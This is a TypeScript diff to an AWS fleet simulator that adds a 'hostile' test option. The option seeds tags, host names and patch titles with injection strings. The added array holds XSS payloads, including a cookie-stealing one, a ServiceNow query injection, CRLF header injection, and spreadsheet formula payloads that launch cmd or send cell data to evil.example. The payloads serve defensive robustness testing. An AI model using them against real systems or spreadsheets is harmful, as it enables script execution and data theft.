@@ -114,6 +114,8 @@ export interface Fleet {
   readonly groupBaselines: Map<string, Map<string, string>>;
   readonly catalogs: Readonly<Record<SimPlatform, readonly SimPatch[]>>;
   readonly windows: SimWindow[];
+  /** Whether names, tags, patch titles and command output carry hostile text (`CreateFleetOptions.hostile`). */
+  readonly hostile: boolean;
 }
 
 export interface CreateFleetOptions {
@@ -141,7 +143,34 @@ export interface CreateFleetOptions {
   readonly platformWeights?: Partial<Record<SimPlatform, number>>;
   /** One maintenance window per patch group (disabled, gated by change); default true. */
   readonly windows?: boolean;
+  /**
+   * Hostile data, as real estates have it: every other instance's `Name`,
+   * `Application` and `Owner` tags (EC2 allows any character in a tag) and
+   * Linux host name, every patch title and every failed command's output carry
+   * ServiceNow query characters, HTML and script, C0/C1 control characters,
+   * spreadsheet formulas and, where AWS allows it, 10 KB strings (1 patch title
+   * in 7, and the command's error output; tag values stay within AWS's 256
+   * characters, host names within Linux's 64). Default false.
+   */
+  readonly hostile?: boolean;
 }
+
+/** Hostile text the `hostile` knob puts into AWS data (each within the field's AWS limit where it has one). */
+export const HOSTILE_TEXT = [
+  '<script>alert("pb")</script>',
+  "x' OR 1=1 --^ORDERBYsys_id^NQactive=true^ORnumberSTARTSWITHINC,i-0000000000000000f",
+  'bell\u0007nul\u0000esc\u001b[31mred\r\nInjected-Header: yes\u0085nel\u009bcsi\u2028ls',
+  '=HYPERLINK("http://evil.example/?q="&A1)',
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: a template placeholder in AWS text is part of the hostile data.
+  '<img src=x onerror=alert(1)>&amp;"\'`${x}|pipe',
+  '+cmd|\' /C calc\'!A0',
+  '-2+3+cmd|\' /C calc\'!A0',
+  '@SUM(1+1)*cmd|\' /C calc\'!A0',
+  '[code]<img src=x onerror=alert(document.cookie)>[/code]',
+] as const;
+
+/** 10 KB of text with the hostile strings spread through it. */
+export const HOSTILE_LONG = `${HOSTILE_TEXT.join(' ')} ${'A'.repeat(10_240)} ${HOSTILE_TEXT.join(' ')}`;
 
 const GROUP_NAMES = [
   'web-prod',
@@ -190,7 +219,12 @@ export function createFleet(options: CreateFleetOptions): Fleet {
   const accountId = options.accountId ?? '123456789012';
   const region = options.region ?? 'us-east-1';
   const now = new Date(options.now ?? '2026-01-01T00:00:00Z').getTime();
-  const catalogs = buildCatalogs(seed);
+  const built = buildCatalogs(seed);
+  const catalogs = options.hostile
+    ? (Object.fromEntries(
+        Object.entries(built).map(([platform, patches]) => [platform, patches.map((p, n) => ({ ...p, title: `${p.title} ${HOSTILE_TEXT[n % HOSTILE_TEXT.length]}${n % 7 === 0 ? ` ${HOSTILE_LONG}` : ''}` }))]),
+      ) as typeof built)
+    : built;
   const groups = groupNames(options.patchGroups);
   const weights = { ...DEFAULT_WEIGHTS, ...(options.platformWeights ?? {}) };
   const platformTable = PLATFORMS.map((p) => [p, weights[p]] as const).filter(([, w]) => w > 0);
@@ -249,11 +283,14 @@ export function createFleet(options: CreateFleetOptions): Fleet {
     const group = unmanaged || groups.length === 0 ? undefined : rng.pick(groups);
     const stale = rng.chance(staleRate);
     const ip = `10.${rng.int(0, 255)}.${rng.int(0, 255)}.${rng.int(1, 254)}`;
+    const name = `${application}-${environment}-${String(i + 1).padStart(4, '0')}`;
+    const hostile = options.hostile === true && i % 2 === 0 ? HOSTILE_TEXT[(i / 2) % HOSTILE_TEXT.length] : undefined;
     const tags: Record<string, string> = {
-      Name: `${application}-${environment}-${String(i + 1).padStart(4, '0')}`,
+      // AWS tag values are at most 256 characters.
+      Name: hostile ? `${name} ${hostile}`.slice(0, 256) : name,
       Environment: environment,
-      Application: application,
-      Owner: rng.pick(OWNERS),
+      Application: hostile ? `${application}${hostile}`.slice(0, 256) : application,
+      Owner: hostile ? `${hostile}${'o'.repeat(256)}`.slice(0, 256) : rng.pick(OWNERS),
     };
     if (group) tags['Patch Group'] = group;
 
@@ -310,7 +347,10 @@ export function createFleet(options: CreateFleetOptions): Fleet {
       computerName:
         info.platformType === 'Windows'
           ? `EC2AMAZ-${rng.upperAlnum(7)}`
-          : `ip-${ip.replace(/\./g, '-')}.${region === 'us-east-1' ? 'ec2.internal' : `${region}.compute.internal`}`,
+          : hostile
+            ? // Linux takes any bytes as a host name, up to 64.
+              hostile.slice(0, 64)
+            : `ip-${ip.replace(/\./g, '-')}.${region === 'us-east-1' ? 'ec2.internal' : `${region}.compute.internal`}`,
       ipAddress: ip,
       ...(hybrid ? { activationName: `onprem-${application}-${String(i + 1).padStart(4, '0')}` } : {}),
       iamRole: hybrid ? 'service-role/AmazonEC2RunCommandRoleForManagedInstances' : 'AmazonSSMRoleForInstancesQuickSetup',
@@ -382,6 +422,7 @@ export function createFleet(options: CreateFleetOptions): Fleet {
     groupBaselines,
     catalogs,
     windows,
+    hostile: options.hostile === true,
   };
 }
 
